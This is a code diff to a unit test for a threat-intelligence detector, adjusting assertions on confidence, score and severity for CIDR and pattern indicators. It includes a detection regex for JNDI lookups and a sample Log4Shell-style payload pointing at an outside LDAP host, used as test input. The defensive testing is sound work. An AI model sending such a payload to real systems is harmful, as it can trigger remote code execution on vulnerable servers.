@@ -67,7 +67,8 @@ def test_cidr_pattern_and_signals():
     ti = ThreatIntel([Indicator("cidr", "203.0.113.0/24", "feed", 60, last_seen=T - 200 * 86400),
                       Indicator("pattern", r"jndi:(ldap|rmi)://", "feed", 95)])
     sig = ti.signals(ev(src_ip="203.0.113.9", dst_ip="10.0.0.5", host="h1"), EntityResolver())
-    assert len(sig) == 1 and sig[0].kind == "intel" and sig[0].score == 0.3  # stale: confidence halved
+    assert len(sig) == 1 and sig[0].kind == "intel" and sig[0].detail["confidence"] == 0.3  # stale: confidence halved
+    assert 0.99 < sig[0].score < 0.9999
     sig = ti.signals(ev(source="zeek", src_ip="10.0.0.7", fields={"uri": "/?x=${jndi:ldap://1.2.3.4/a}"}), EntityResolver())
-    assert sig and sig[0].score == 0.95
+    assert sig and sig[0].detail["confidence"] == 0.95 and sig[0].severity == "critical"
     assert ti.match(ev(src_ip="10.0.0.7", dst_ip="10.0.0.8")) == []
